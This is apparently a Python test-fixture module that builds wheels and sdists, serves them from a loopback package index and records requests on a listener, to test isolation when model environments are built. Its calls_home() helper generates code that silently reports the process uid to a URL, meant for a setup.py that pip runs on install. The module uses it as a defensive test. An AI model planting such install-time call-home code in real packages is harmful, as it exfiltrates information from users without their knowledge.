"""Hand-made Python distributions, a PEP 503 package index and a would-be victim listener, all
on loopback, for the tests of how model environments are built.

Wheels and sdists are written as plain zip/tar files (no build backend runs to make them). The
listener records every request it receives: a test proves isolation by showing it got none.
"""

from __future__ import annotations

import base64
import hashlib
import html
import io
import tarfile
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from packaging.utils import canonicalize_name, parse_sdist_filename, parse_wheel_filename


def make_wheel(folder: Path, name: str, version: str, *, files: dict[str, str] | None = None,
               requires: list[str] | None = None) -> Path:
    """A pure-Python ``py3-none-any`` wheel with `files` (path → text) and Requires-Dist."""
    dist = f"{name.replace('-', '_')}-{version}.dist-info"
    members = dict(files or {f"{name.replace('-', '_')}/__init__.py": ""})
    metadata = ["Metadata-Version: 2.1", f"Name: {name}", f"Version: {version}",
                *(f"Requires-Dist: {r}" for r in requires or [])]
    members[f"{dist}/METADATA"] = "\n".join(metadata) + "\n"
    members[f"{dist}/WHEEL"] = ("Wheel-Version: 1.0\nGenerator: modelport-tests\n"
                                "Root-Is-Purelib: true\nTag: py3-none-any\n")
    record = []
    for member, text in members.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest())
        record.append(f"{member},sha256={digest.rstrip(b'=').decode()},{len(text.encode())}")
    members[f"{dist}/RECORD"] = "\n".join([*record, f"{dist}/RECORD,,"]) + "\n"
    path = folder / f"{name.replace('-', '_')}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        for member, text in members.items():
            archive.writestr(member, text)
    return path


def make_sdist(folder: Path, name: str, version: str, setup_py: str) -> Path:
    """A source distribution whose setup.py is `setup_py` (pip would run it to build it)."""
    base = f"{name.replace('-', '_')}-{version}"
    path = folder / f"{base}.tar.gz"
    members = {f"{base}/setup.py": setup_py,
               f"{base}/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"}
    with tarfile.open(path, "w:gz") as archive:
        for member, text in members.items():
            info = tarfile.TarInfo(member)
            data = text.encode()
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return path


def calls_home(url: str) -> str:
    """Python source that reports the uid it runs as to `url` (swallowing every error)."""
    return ("import os, urllib.request\n"
            "try:\n"
            f"    urllib.request.urlopen({url!r} + '?uid=%d' % os.getuid(), timeout=3)\n"
            "except Exception:\n"
            "    pass\n")


def _project(filename: str) -> str | None:
    try:
        if filename.endswith(".whl"):
            return canonicalize_name(parse_wheel_filename(filename)[0])
        return canonicalize_name(parse_sdist_filename(filename)[0])
    except ValueError:
        return None


class _Server:
    def __init__(self, handler: type[BaseHTTPRequestHandler]) -> None:
        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.httpd.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def __enter__(self) -> _Server:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@contextmanager
def listener() -> Iterator[tuple[str, list[str]]]:
    """A loopback HTTP server standing for anything a model must not reach (MLflow, the admin
    page, the outside world): yields (its URL, the request lines it received)."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def _any(self) -> None:
            hits.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

        do_GET = do_POST = do_PUT = do_HEAD = _any

        def log_message(self, *args: object) -> None:
            pass

    with _Server(Handler) as server:
        yield server.url, hits


@contextmanager
def package_index(files: Path) -> Iterator[str]:
    """A PEP 503 "simple" index on loopback serving the distributions in `files` (the
    configured package index of a test). Yields its ``…/simple`` URL."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            parts = [p for p in self.path.split("?")[0].split("/") if p]
            if parts[:1] == ["files"] and len(parts) == 2 and (files / parts[1]).is_file():
                self._send((files / parts[1]).read_bytes(), "application/octet-stream")
            elif parts[:1] == ["simple"] and len(parts) == 2:
                wanted = canonicalize_name(parts[1])
                links = [f'<a href="../../files/{html.escape(f.name)}#sha256='
                         f'{hashlib.sha256(f.read_bytes()).hexdigest()}">{html.escape(f.name)}'
                         "</a>" for f in sorted(files.iterdir()) if _project(f.name) == wanted]
                if not links:
                    self.send_error(404)
                    return
                self._send(("<!DOCTYPE html><html><body>\n" + "<br>\n".join(links)
                            + "\n</body></html>\n").encode(), "text/html")
            elif parts == ["simple"]:
                names = sorted({p for f in files.iterdir() if (p := _project(f.name))})
                self._send(("<!DOCTYPE html><html><body>\n" + "\n".join(
                    f'<a href="{n}/">{n}</a>' for n in names) + "\n</body></html>\n").encode(),
                    "text/html")
            else:
                self.send_error(404)

        def _send(self, body: bytes, content_type: str) -> None:
            self.send_response(200)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    with _Server(Handler) as server:
        yield f"{server.url}/simple"
